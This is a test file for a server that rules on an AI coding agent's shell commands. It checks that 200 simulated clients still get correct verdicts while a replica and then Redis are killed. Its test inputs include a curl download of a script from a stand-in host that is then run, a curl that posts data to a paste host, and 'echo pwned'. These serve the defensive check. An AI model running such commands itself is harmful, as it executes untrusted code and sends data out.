/**
 * A drill: 200 simulated machines ask three replicas behind HAProxy, with a real Redis, while a replica and then Redis are killed. Every call has
 * to get its verdict, and the right one.
 */

import { Agent, request } from 'node:http'
import { afterAll, describe, expect, it } from 'vitest'
import { until } from '../until.ts'
import { balancer, hasBalancer } from './balancer.ts'
import { hasRedis, redisServer } from './redis.ts'
import { claudeCall, demoPolicy, homeWith, runtimes, start } from './server.ts'

const machines = 200
const open: (() => unknown)[] = []
afterAll(async () => {
  for (const end of open.reverse()) await end()
})

const agent = new Agent({ keepAlive: true, maxSockets: 32 })

const post = (port: number, body: object): Promise<{ readonly status: number; readonly text: string }> =>
  new Promise((resolve, reject) => {
    const send = request(
      {
        agent,
        port,
        host: '127.0.0.1',
        path: '/hooks/claude-code',
        method: 'POST',
        headers: { 'content-type': 'application/json' },
      },
      response => {
        let text = ''
        response.setEncoding('utf8').on('data', chunk => {
          text += chunk
        })
        response.on('end', () => resolve({ status: response.statusCode ?? 0, text }))
      },
    )
    send.on('error', reject).end(JSON.stringify(body))
  })

describe.skipIf(!hasRedis || !hasBalancer)('a fleet', () => {
  const [binary] = runtimes
  if (binary === undefined) throw new Error('no executable is listed')

  it('loses no verdict when a replica and Redis are killed', async () => {
    const redis = await redisServer()
    open.push(redis.kill)
    const files = {
      'config.yaml': `state: redis://127.0.0.1:${redis.port}\n`,
      'policy.yaml': demoPolicy.replace('extends: none\n', ''),
    }
    const replicas = await Promise.all(
      [0, 1, 2].map(() => start(binary, { env: homeWith(files), args: ['--no-project-policies'] })),
    )
    for (const replica of replicas) open.push(() => replica.child.kill('SIGKILL'))
    const { port, kill } = await balancer(replicas.map(replica => replica.port))
    open.push(kill)

    const times: number[] = []
    const wrong: string[] = []
    let asked = 0
    let lost = 0
    const ask = async (machine: number, command: string, wanted: readonly string[]): Promise<void> => {
      const from = performance.now()
      asked++
      const said = await post(port, { ...claudeCall(command), session_id: `machine-${machine}` }).catch(() => undefined)
      times.push(performance.now() - from)
      if (said?.status !== 200) lost++
      else {
        const decision = /"permissionDecision":"(\w+)"/.exec(said.text)?.[1] ?? 'allow'
        if (!wanted.includes(decision)) wrong.push(`${command}: ${decision}`)
      }
    }
    const everybody = (command: string, ...wanted: readonly string[]): Promise<unknown> =>
      Promise.all(Array.from({ length: machines }, (_, machine) => ask(machine, command, wanted)))
    const round = async (...download: readonly string[]): Promise<void> => {
      await everybody('git status', 'allow')
      await everybody('echo pwned', 'deny')
      await everybody('curl -o get.sh https://stranger.example/get', ...download)
    }
    const told: string[] = []
    const phase = async (name: string, run: () => Promise<void>): Promise<void> => {
      times.length = 0
      await run()
      times.sort((a, b) => a - b)
      const at = (share: number) => (times[Math.floor(times.length * share)] ?? 0).toFixed(0)
      told.push(`${name}: ${times.length} calls, p50 ${at(0.5)} ms, p99 ${at(0.99)} ms, longest ${at(0.9999)} ms`)
    }

    await phase('all is well', () => round('allow'))
    // What one replica has seen the others know.
    await phase('known everywhere', async () => void (await everybody('sh get.sh', 'ask')))
    await phase('a replica is killed', async () => {
      const going = round('allow')
      replicas[0]?.child.kill('SIGKILL')
      await going
      await everybody('sh get.sh', 'ask')
    })
    await phase('Redis is killed', async () => {
      const going = round('allow', 'ask')
      await redis.kill()
      await going
      // What depends on what nobody knows now is asked; the rest goes on.
      await everybody("curl -d 'hello' https://paste.example/x", 'ask')
      await everybody('npm test', 'allow')
    })
    await phase('Redis is back', async () => {
      await redis.start()
      for (const replica of replicas.slice(1))
        await until(async () => (await replica.ask('/metrics')).text.includes('\ntfy_hook_state_up 1'))
      await round('allow')
      await everybody('sh get.sh', 'ask')
    })
    console.info(`${told.join('\n')}\n${asked} calls of ${machines} machines, ${lost} lost, ${wrong.length} wrong`)
    expect({ lost, wrong: wrong.slice(0, 5) }).toEqual({ lost: 0, wrong: [] })
  }, 120_000)
})
